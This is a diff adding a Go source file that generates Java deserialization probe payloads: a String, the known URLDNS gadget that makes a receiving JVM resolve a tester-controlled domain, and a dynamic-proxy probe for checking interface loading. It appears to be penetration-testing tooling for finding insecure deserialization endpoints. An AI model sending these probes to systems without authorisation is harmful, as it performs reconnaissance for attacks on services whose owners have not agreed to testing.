@@ -0,0 +1,179 @@
+package pkg
+
+import (
+	"bytes"
+	"encoding/binary"
+	"net"
+	"sort"
+	"strings"
+
+	"github.com/pkg/errors"
+)
+
+// PingPayload is a harmless probe payload used to confirm that an endpoint deserializes input.
+// None of the payloads executes code: the strongest side effect is a DNS lookup of a user supplied domain.
+type PingPayload struct {
+	Name        string
+	Description string
+	Param       string // meaning of the parameter passed to Build
+	Build       func(param string) ([]byte, error)
+}
+
+// PingPayloads lists the available probe payloads by name.
+var PingPayloads = map[string]*PingPayload{
+	"string": {
+		Name:        "string",
+		Description: "java.lang.String, accepted by any endpoint which deserializes input",
+		Param:       "string value",
+		Build:       StringPayload,
+	},
+	"urldns": {
+		Name:        "urldns",
+		Description: "HashMap with a java.net.URL key, the endpoint resolves the domain while rebuilding the map",
+		Param:       "domain under the control of the tester",
+		Build:       URLDNSPayload,
+	},
+	"proxy": {
+		Name:        "proxy",
+		Description: "dynamic proxy without handler, ClassNotFoundException unless the endpoint loads its interfaces",
+		Param:       "comma separated interface names",
+		Build:       ProxyPayload,
+	},
+}
+
+// PingPayloadNames returns the sorted names of PingPayloads.
+func PingPayloadNames() []string {
+	names := make([]string, 0, len(PingPayloads))
+	for name := range PingPayloads {
+		names = append(names, name)
+	}
+
+	sort.Strings(names)
+
+	return names
+}
+
+// GeneratePingPayload builds the named probe payload with the given parameter.
+func GeneratePingPayload(name, param string) ([]byte, error) {
+	p, exists := PingPayloads[strings.ToLower(name)]
+	if !exists {
+		return nil, errors.Errorf("unknown ping payload '%s', available: %s", name, strings.Join(PingPayloadNames(), ", "))
+	}
+
+	return p.Build(param)
+}
+
+// StringPayload serializes a java.lang.String.
+func StringPayload(s string) ([]byte, error) {
+	return EncodeString(s)
+}
+
+// EncodeString serializes a java.lang.String in modified UTF-8, as a TC_LONGSTRING above 65535 bytes unless
+// WithStringForm forces a form.
+func EncodeString(s string, options ...EncoderOption) ([]byte, error) {
+	w := newStreamWriter(options...)
+	w.string(s)
+
+	if w.err != nil {
+		return nil, w.err
+	}
+
+	return w.Bytes(), nil
+}
+
+// EncodeExternalizable serializes an Externalizable object of the class with the given uid, data being what its
+// writeExternal writes. WithProtocolVersion(ProtocolVersion1) writes data as is, like the JDK 1.1 streams old
+// payloads come from, ProtocolVersion2 in block data.
+func EncodeExternalizable(className string, uid int64, data []byte, options ...EncoderOption) ([]byte, error) {
+	w := newStreamWriter(options...)
+
+	w.object(func() {
+		w.classDesc(className, uid, w.externalFlags(), nil, nil)
+	})
+	w.externalData(data)
+
+	if w.err != nil {
+		return nil, w.err
+	}
+
+	return w.Bytes(), nil
+}
+
+// URLDNSPayload serializes a java.util.HashMap holding a java.net.URL for http://domain/ as only key.
+// Deserializing it makes the JVM resolve domain, which confirms deserialization without running any code.
+func URLDNSPayload(domain string) ([]byte, error) {
+	domain = strings.TrimSpace(domain)
+	if domain == "" || strings.ContainsAny(domain, "/:@ ") || net.ParseIP(domain) != nil {
+		return nil, errors.Errorf("invalid domain '%s'", domain)
+	}
+
+	w := newStreamWriter()
+
+	// java.util.HashMap
+	w.object(func() {
+		w.classDesc("java.util.HashMap", 0x0507dac1c31660d1, SC_SERIALIZABLE|SC_WRITE_METHOD, []writerField{
+			{typeCode: 'F', name: "loadFactor"},
+			{typeCode: 'I', name: "threshold"},
+		}, nil)
+	})
+	w.float32(0.75)
+	w.int32(12)
+
+	var bd bytes.Buffer
+
+	_ = binary.Write(&bd, binary.BigEndian, int32(16)) // buckets
+	_ = binary.Write(&bd, binary.BigEndian, int32(1))  // size
+	w.blockData(bd.Bytes())
+
+	// key: java.net.URL with hashCode -1 so it is recomputed (and resolved) by the receiver
+	w.object(func() {
+		w.classDesc("java.net.URL", -7627629688361524110, SC_SERIALIZABLE|SC_WRITE_METHOD, []writerField{
+			{typeCode: 'I', name: "hashCode"},
+			{typeCode: 'I', name: "port"},
+			{typeCode: 'L', name: "authority", className: "Ljava/lang/String;"},
+			{typeCode: 'L', name: "file", className: "Ljava/lang/String;"},
+			{typeCode: 'L', name: "host", className: "Ljava/lang/String;"},
+			{typeCode: 'L', name: "protocol", className: "Ljava/lang/String;"},
+			{typeCode: 'L', name: "ref", className: "Ljava/lang/String;"},
+		}, nil)
+	})
+	w.int32(-1)
+	w.int32(-1)
+	w.string(domain)
+	w.string("/")
+	w.string(domain)
+	w.string("http")
+	w.null()
+	w.endBlockData()
+
+	// value
+	w.string("http://" + domain + "/")
+	w.endBlockData()
+
+	return w.Bytes(), nil
+}
+
+// ProxyPayload serializes a dynamic proxy implementing the comma separated interfaces, with a null
+// InvocationHandler. Deserializing it defines the proxy class, which tells whether the endpoint loads the interfaces,
+// but nothing invokes the proxy.
+func ProxyPayload(interfaces string) ([]byte, error) {
+	var names []string
+
+	for _, name := range strings.Split(interfaces, ",") {
+		name = strings.TrimSpace(name)
+		if name == "" || strings.ContainsAny(name, "/;[ ") {
+			return nil, errors.Errorf("invalid interface name '%s'", name)
+		}
+
+		names = append(names, name)
+	}
+
+	w := newStreamWriter()
+
+	w.object(func() {
+		w.proxyClassDesc(names)
+	})
+	w.null() // h
+
+	return w.Bytes(), nil
+}